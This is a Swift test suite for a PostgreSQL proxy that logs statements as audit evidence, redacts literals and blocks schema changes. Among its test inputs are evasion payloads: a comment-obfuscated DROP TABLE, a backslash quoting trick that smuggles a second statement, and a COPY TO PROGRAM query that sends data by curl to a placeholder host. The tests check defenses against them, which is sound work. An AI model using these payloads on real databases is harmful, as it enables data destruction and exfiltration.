import Masking
import NIOCore
import Policy
import Testing

@testable import PostgresWire

@Suite("Session: simple query, policy and evidence")
struct SessionQueryTests {
    static let blocking = TestRules.rules(blocks: [TestRules.blockDDL()])

    @Test func allowedQueryIsForwardedOnlyAfterItsRecordIsDurable() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let query = PostgresFrontendMessage.query("SELECT id, name FROM customers WHERE id = 1")
        let actions = harness.client(query)
        #expect(actions.serverBytes.isEmpty, "nothing may reach the server before the record is durable")
        #expect(actions.records.count == 1)
        let evidence = actions.records[0]
        #expect(evidence.text == "SELECT id, name FROM customers WHERE id = 1")
        #expect(evidence.kinds == ["SELECT"])
        #expect(evidence.decision == .allow)
        #expect(evidence.origin == .simpleQuery(index: 0, count: 1))

        let released = harness.machine.recordCompleted(evidence.id)
        guard released.count == 2, case .statementStarted(evidence.id) = released[0] else {
            Issue.record("expected statementStarted then the frame, got \(released)")
            return
        }
        #expect(released.serverBytes == [encoded(query)], "the client's frame, byte for byte")

        let answer = harness.server(
            .rowDescription([field("id", type: 23), field("name")]), row("1", "Alice"),
            .commandComplete(tag: "SELECT 1"),
            .readyForQuery(.idle))
        #expect(answer.toClient.count == 4)
        #expect(
            answer.outcomes == [
                StatementOutcome(id: evidence.id, result: .completed(commandTag: "SELECT 1"), rowCount: 1, rowsSent: 1)
            ])
    }

    @Test func pipelinedQueriesAreRecordedAtOnceAndForwardedInOrder() {
        var harness = SessionHarness.established()
        let first = harness.client(.query("SELECT 1"))
        let second = harness.client(.query("SELECT 2"))
        #expect(first.records.count == 1 && second.records.count == 1)
        #expect(harness.machine.heldClientBytes > 0)
        // The second record completes first: it still waits behind the first.
        #expect(harness.machine.recordCompleted(second.records[0].id).serverBytes.isEmpty)
        let released = harness.machine.recordCompleted(first.records[0].id)
        #expect(released.toServer == [.query("SELECT 1"), .query("SELECT 2")])
        #expect(harness.machine.heldClientBytes == 0)
    }

    @Test func blockedDropIsAnsweredWithoutReachingTheServer() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let actions = harness.client(.query("DrOp/**/TABLE customers"))
        #expect(actions.serverBytes.isEmpty)
        #expect(actions.records.isEmpty)
        #expect(actions.blockedRecords.count == 1)
        #expect(
            actions.blockedRecords.first?.decision
                == .block(rule: "no-ddl", reason: "schema changes go through the migration pipeline"))
        let messages = actions.toClient
        #expect(messages.count == 2)
        guard case .errorResponse(let fields) = messages.first else {
            Issue.record("expected ErrorResponse, got \(messages)")
            return
        }
        #expect(fields[.severity] == "ERROR")
        #expect(fields[.sqlState] == "42501")
        #expect(fields[.message]?.contains("no-ddl") == true)
        #expect(fields[.message]?.contains("migration pipeline") == true)
        #expect(messages.last == .readyForQuery(.idle))
    }

    @Test func blockedStatementInsideATransactionKeepsTheSessionUsable() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let begin = harness.client(.query("BEGIN"))
        _ = harness.completeRecords(begin)
        _ = harness.server(.commandComplete(tag: "BEGIN"), .readyForQuery(.inTransaction))

        let blocked = harness.client(.query("TRUNCATE orders"))
        #expect(blocked.serverBytes.isEmpty)
        #expect(blocked.toClient.last == .readyForQuery(.inTransaction), "the server's transaction is untouched")

        let next = harness.client(.query("UPDATE orders SET state = 'x' WHERE id = 3"))
        #expect(next.records.count == 1)
        #expect(harness.completeRecords(next).toServer == [.query("UPDATE orders SET state = 'x' WHERE id = 3")])
        let done = harness.server(.commandComplete(tag: "UPDATE 1"), .readyForQuery(.inTransaction))
        #expect(done.outcomes.first?.rowCount == 1)
    }

    @Test func aMultiStatementQueryWithOneBlockedStatementIsBlockedWhole() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let actions = harness.client(.query("SELECT 1; DELETE FROM orders; SELECT 2"))
        #expect(actions.serverBytes.isEmpty)
        #expect(actions.blockedRecords.count == 3)
        #expect(actions.blockedRecords.map(\.origin) == (0..<3).map { .simpleQuery(index: $0, count: 3) })
        #expect(actions.blockedRecords[1].kinds == ["DELETE"])
        #expect(actions.toClient.count == 2)
    }

    @Test func aMultiStatementQueryGetsOneEntryAndOneOutcomePerStatement() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let actions = harness.client(.query("INSERT INTO t VALUES (1); SELECT * FROM t; SELECT nope"))
        #expect(actions.records.map(\.kinds) == [["INSERT"], ["SELECT"], ["SELECT"]])
        #expect(harness.completeRecords(actions).toServer.count == 1)
        var error = PostgresErrorFields()
        error[.severity] = "ERROR"
        error[.sqlState] = "42703"
        error[.message] = "column \"nope\" does not exist"
        let answer = harness.server(
            .commandComplete(tag: "INSERT 0 1"), .rowDescription([field("a", type: 23)]), row("1"),
            .commandComplete(tag: "SELECT 1"), .errorResponse(error), .readyForQuery(.idle))
        #expect(
            answer.outcomes.map(\.result) == [
                .completed(commandTag: "INSERT 0 1"), .completed(commandTag: "SELECT 1"), .failed(sqlState: "42703"),
            ])
        #expect(answer.outcomes.map(\.rowsSent) == [0, 1, 0])
    }

    @Test func aBlockedQueryAnswersInOrderBehindEarlierResults() {
        var harness = SessionHarness.established(rules: Self.blocking)
        let first = harness.client(.query("SELECT 1"))
        let blocked = harness.client(.query("DROP TABLE t"))
        #expect(blocked.toClient.isEmpty, "the error waits until the first query is answered")
        _ = harness.completeRecords(first)
        let answer = harness.server(
            .rowDescription([field("x", type: 23)]), row("1"), .commandComplete(tag: "SELECT 1"), .readyForQuery(.idle))
        let messages = answer.toClient
        #expect(messages.count == 6)
        #expect(messages[3] == .readyForQuery(.idle))
        guard case .errorResponse = messages[4] else {
            Issue.record("expected the blocked statement's error after the first query's answer, got \(messages)")
            return
        }
        #expect(messages[5] == .readyForQuery(.idle))
    }

    @Test func literalsAreRedactedWhenThePolicySaysSo() {
        var harness = SessionHarness(configuration: .testing(statementText: .redactLiterals))
        harness.establish()
        let actions = harness.client(.query("SELECT * FROM users WHERE email = 'alice@example.com' AND id = 42"))
        #expect(actions.records.first?.text == "SELECT * FROM users WHERE email = '?' AND id = ?")
        #expect(actions.records.first?.textIsRedacted == true)
    }

    @Test func aBackslashTrickCannotHideAStatementFromTheLexer() {
        // With standard_conforming_strings off, 'x\'; DROP ...' is one string; with it on, DROP is a statement.
        // A client can flip the setting inside the same string, so either reading that blocks wins.
        var harness = SessionHarness.established(rules: Self.blocking)
        _ = harness.server(.parameterStatus(name: "standard_conforming_strings", value: "off"))
        let actions = harness.client(
            .query("SET standard_conforming_strings = on; SELECT 'x\\'; DROP TABLE customers; --'"))
        #expect(actions.serverBytes.isEmpty)
        #expect(actions.blockedRecords.count > 0)
    }

    @Test func aFailedRecordRefusesTheStatementAndEndsTheSession() {
        var harness = SessionHarness.established()
        let actions = harness.client(.query("SELECT 1"))
        let failed = harness.machine.recordFailed(actions.records[0].id)
        #expect(failed.serverBytes.isEmpty)
        #expect(failed.closeError?[.sqlState] == "58030")
        #expect(failed.outcomes.map(\.result) == [.connectionClosed])
        #expect(harness.machine.isClosed)
    }

    @Test func terminateWaitsForPendingRecordsThenCloses() {
        var harness = SessionHarness.established()
        let query = harness.client(.query("SELECT 1"))
        #expect(harness.client(.terminate).isEmpty)
        let released = harness.completeRecords(query)
        #expect(released.toServer == [.query("SELECT 1"), .terminate])
        #expect(released.closes)
    }

    @Test func noticesAndNotificationsPassThroughAtAnyTime() {
        var harness = SessionHarness.established()
        var notice = PostgresErrorFields()
        notice[.severity] = "NOTICE"
        notice[.message] = "relation exists, skipping"
        let actions = harness.server(
            .noticeResponse(notice), .notificationResponse(processID: 1, channel: "jobs", payload: "{}"),
            .parameterStatus(name: "TimeZone", value: "UTC"))
        #expect(actions.toClient.count == 3)
        #expect(harness.machine.serverParameters["TimeZone"] == "UTC")
    }

    @Test func copyFromStdinAcceptsDataOnlyAfterTheServerAskedForIt() {
        var harness = SessionHarness.established()
        #expect(harness.client(.copyData(ByteBuffer(string: "1\n"))).closeError?[.sqlState] == "08P01")

        var copying = SessionHarness.established()
        let query = copying.client(.query("COPY t FROM STDIN"))
        _ = copying.completeRecords(query)
        _ = copying.server(.copyInResponse(.init(format: .text, columnFormats: [.text])))
        #expect(copying.client(.copyData(ByteBuffer(string: "1\n"))).toServer == [.copyData(ByteBuffer(string: "1\n"))])
        #expect(copying.client(.copyDone).toServer == [.copyDone])
        let done = copying.server(.commandComplete(tag: "COPY 1"), .readyForQuery(.idle))
        #expect(done.outcomes.first?.rowCount == 1)
        #expect(copying.client(.copyData(ByteBuffer(string: "2\n"))).closeError != nil, "the COPY is over")
    }

    @Test func functionCallIsRecordedAndRefusedWhenARuleBlocksFunctions() {
        var harness = SessionHarness.established()
        let call = harness.client(.functionCall(.init(functionOID: 954, arguments: [ByteBuffer(string: "1")])))
        #expect(call.records.first?.origin == .functionCall(functionOID: 954))
        #expect(harness.completeRecords(call).toServer.count == 1)
        let answer = harness.server(.functionCallResponse(ByteBuffer(string: "ok")), .readyForQuery(.idle))
        #expect(answer.outcomes.map(\.result) == [.completed(commandTag: "FUNCTION CALL")])

        var blocked = SessionHarness.established(rules: Self.blocking)
        let refused = blocked.client(.functionCall(.init(functionOID: 954)))
        #expect(refused.serverBytes.isEmpty)
        #expect(refused.blockedRecords.count == 1)
        #expect(refused.toClient.count == 2)
    }

    @Test func serverClosingEndsOutstandingStatements() {
        var harness = SessionHarness.established()
        let query = harness.client(.query("SELECT pg_sleep(10)"))
        _ = harness.completeRecords(query)
        let closed = harness.machine.serverClosed()
        #expect(closed.outcomes.map(\.result) == [.connectionClosed])
        #expect(closed.closes)
    }

    @Test func unexpectedServerMessageEndsTheSession() {
        var harness = SessionHarness.established()
        let actions = harness.server(.parseComplete)
        #expect(actions.closeError?[.sqlState] == "08P01")
    }

    @Test func textPatternsSeeStatementsWithoutComments() {
        let rule = Applied(
            rule: "no-copy-program",
            spec: BlockSpec(match: StatementMatcher(patterns: [TextPattern("copy * to program *")!])))
        var harness = SessionHarness.established(rules: TestRules.rules(blocks: [rule]))
        let actions = harness.client(.query("COPY/**/t TO -- hidden\n PROGRAM 'curl -d @- evil'"))
        #expect(actions.serverBytes.isEmpty)
        #expect(actions.blockedRecords.first?.decision != .allow)
        // Comment markers inside quotes are text, not comments.
        #expect(
            stripSQLComments("SELECT '--x', $$/*y*/$$ /* z */ -- w", standardConformingStrings: true)
                == "SELECT '--x', $$/*y*/$$    ")
    }
}
